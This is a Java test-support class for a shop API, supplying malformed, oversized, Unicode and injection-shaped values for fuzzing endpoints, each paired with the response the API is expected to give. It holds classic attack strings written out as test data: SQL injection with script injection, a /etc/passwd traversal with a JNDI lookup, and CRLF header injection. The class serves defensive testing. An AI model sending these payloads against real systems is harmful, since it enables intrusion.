package de.stammkunde.api.support;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;

/**
 * Values that have crashed web applications before: malformed, oversized, negative, exotic Unicode, control
 * characters, broken UTF-16, and injection-shaped text. Each says what the API must answer.
 */
public final class HostileInput {
    private HostileInput() {
    }

    public enum Expect {
        /** Anything but a 5xx; an error is a problem with a code. */
        ANY,
        /** 400 {@code validation} naming the field: a control character or broken Unicode. */
        REFUSED,
        /** 400 of any code: the servlet container refuses it before the application sees it. */
        BAD_REQUEST,
        /** Not 2xx: the id of another shop's resource. */
        NOT_OK,
        /** A 4xx problem: a body that is not a JSON object of the expected shape. */
        CLIENT_ERROR
    }

    /** A value for a path variable or query parameter, already percent-encoded. */
    public record UrlValue(String label, String encoded, Expect expect) {
    }

    /** A value for a JSON property, as raw JSON text. */
    public record JsonValue(String label, String json, Expect expect) {
    }

    /** A whole request body. */
    public record Body(String label, byte[] bytes, String contentType, Expect expect, String refusedField) {
    }

    /** Emoji (outside the BMP), right-to-left text with an override, stacked combining marks. */
    private static final String UNICODE = "😀🇩🇪 مرحبا\u202Eabc e\u0301\u0301\u0301";
    private static final String INJECTION = "' OR 1=1 --<script>alert(1)</script>";
    private static final String TRAVERSAL = "../../etc/passwd${jndi:ldap://example.invalid/a}";

    private static final List<String> TEXT = List.of(" ", "0", "-1", "99999999999999999999999999",
            "00000000-0000-0000-0000-000000000000", INJECTION, TRAVERSAL, UNICODE, "x".repeat(2000));

    private static final List<String> TEXT_FOR_IDS = List.of("not-a-uuid", "-1",
            "00000000-0000-0000-0000-000000000000", INJECTION, "x".repeat(2000));

    /** Control characters that Tomcat lets through in a URL: we refuse them ourselves. */
    private static final List<String> CONTROL = List.of("\u0001", "\u0085");

    /**
     * Values for a path variable; {@code uuid} narrows the harmless text to what a UUID parser sees. (What Tomcat
     * and Spring Security refuse in any path, such as {@code %00} or invalid UTF-8, is tried once per path by the
     * walk, not once per variable.)
     */
    public static List<UrlValue> pathValues(boolean uuid) {
        List<UrlValue> values = new ArrayList<>();
        (uuid ? TEXT_FOR_IDS : TEXT).forEach(t -> values.add(new UrlValue(label(t), encode(t), Expect.ANY)));
        values.add(new UrlValue("random uuid", UUID.randomUUID().toString(), Expect.ANY));
        CONTROL.forEach(c -> values.add(new UrlValue(label(c), encode("k" + c + "k"), Expect.REFUSED)));
        return values;
    }

    /** Path segments that the servlet container or Spring Security's firewall refuse before the application. */
    public static List<UrlValue> pathSegmentsRefusedByTheContainer() {
        return List.of(new UrlValue("NUL", "a%00b", Expect.BAD_REQUEST),
                new UrlValue("invalid UTF-8", "a%FFb", Expect.BAD_REQUEST),
                new UrlValue("UTF-8 encoded surrogate", "a%ED%A0%80b", Expect.BAD_REQUEST),
                new UrlValue("line feed", "a%0Ab", Expect.BAD_REQUEST),
                new UrlValue("encoded slash", "..%2F..%2Fetc%2Fpasswd", Expect.BAD_REQUEST));
    }

    /** Values for a query parameter: all of them are ours to refuse. */
    public static List<UrlValue> queryValues() {
        List<UrlValue> values = new ArrayList<>();
        List.of("", "-1", "99999999999999999999999999", "1e309", INJECTION, TRAVERSAL, UNICODE, "x".repeat(2000))
                .forEach(t -> values.add(new UrlValue(label(t), encode(t), Expect.ANY)));
        CONTROL.forEach(c -> values.add(new UrlValue(label(c), encode("k" + c + "k"), Expect.REFUSED)));
        values.add(new UrlValue("NUL", "a%00b", Expect.REFUSED));
        values.add(new UrlValue("tab", "a%09b", Expect.REFUSED));
        values.add(new UrlValue("CRLF and a header", "a%0D%0AX-Injected:%201", Expect.REFUSED));
        values.add(new UrlValue("UTF-8 encoded surrogate", "a%ED%A0%80b", Expect.REFUSED));
        values.add(new UrlValue("invalid UTF-8", "a%FFb", Expect.REFUSED));
        values.add(new UrlValue("broken escape", "a%zzb", Expect.REFUSED));
        return values;
    }

    /** Values for a JSON property of the given schema type. */
    public static List<JsonValue> jsonValues(String type) {
        List<JsonValue> values = new ArrayList<>();
        List<String> raw = switch (type) {
            case "string" -> List.of("\"\"", "\" \"", quote("x".repeat(10_000)), quote(UNICODE), quote(INJECTION),
                    quote(TRAVERSAL), "\"line one\\nline two\\ttab\"", "99999999999999999999999999999", "null",
                    "[]", "{}");
            case "number", "integer" -> List.of("-1", "0", "1e309", "99999999999999999999999999999",
                    "-9223372036854775809", "1.5", "0.00001", "\"12abc\"", "null", "[]", quote("😀"));
            case "boolean" -> List.of("null", "\"yes\"", "1", "[]");
            case "array" -> List.of("null", "[]", "{}", "[null]", "[1,2,3]");
            default -> List.of("null", "[]", "\"x\"");
        };
        raw.forEach(json -> values.add(new JsonValue(label(json), json, Expect.ANY)));
        List<String> refused = "string".equals(type)
                ? List.of("\"a\\u0000b\"", "\"\\ud800\"")
                : List.of("\"\\u0000\"");
        refused.forEach(json -> values.add(new JsonValue(json, json, Expect.REFUSED)));
        return values;
    }

    /** Whole bodies that are not what any endpoint expects. */
    public static List<Body> bodies() {
        String json = "application/json";
        return List.of(
                new Body("empty", new byte[0], json, Expect.CLIENT_ERROR, ""),
                new Body("truncated", utf8("{\"a\":"), json, Expect.CLIENT_ERROR, ""),
                new Body("array", utf8("[]"), json, Expect.CLIENT_ERROR, ""),
                new Body("nested 5000 deep", utf8("[".repeat(5000) + "]".repeat(5000)), json,
                        Expect.CLIENT_ERROR, ""),
                new Body("invalid UTF-8", new byte[] {'{', '"', 'a', '"', ':', '"', (byte) 0xFF, (byte) 0xFE, '"', '}'},
                        json, Expect.CLIENT_ERROR, ""),
                new Body("UTF-8 encoded surrogate", new byte[] {'{', '"', 'a', '"', ':', '"', (byte) 0xED, (byte) 0xA0,
                        (byte) 0x80, '"', '}'}, json, Expect.CLIENT_ERROR, ""),
                new Body("text/plain", utf8("{}"), "text/plain", Expect.CLIENT_ERROR, ""),
                new Body("odd charset", utf8("{}"), "application/json; charset=klingon", Expect.CLIENT_ERROR, ""),
                new Body("over 1 MB", utf8("{\"a\":\"" + "x".repeat(1_100_000) + "\"}"), json,
                        Expect.CLIENT_ERROR, ""),
                new Body("string body with NUL", utf8("\"\\u0000\""), json, Expect.REFUSED, "body"),
                new Body("key with NUL", utf8("{\"a\\u0000\":1}"), json, Expect.REFUSED, "a\uFFFD"),
                new Body("nested key with surrogate", utf8("{\"a\":[{\"\\ud800\":1}]}"), json, Expect.REFUSED,
                        "a[0].\uFFFD"));
    }

    public static String encode(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static String quote(String text) {
        return ApiClient.JSON.writeValueAsString(text);
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static String label(String value) {
        String shown = value.length() > 24 ? value.substring(0, 12) + "…(" + value.length() + ")" : value;
        StringBuilder visible = new StringBuilder();
        shown.codePoints().forEach(c -> visible.append(Character.isISOControl(c) || Character.getType(c)
                == Character.FORMAT ? String.format("\\u%04x", c) : Character.toString(c)));
        return visible.toString();
    }
}
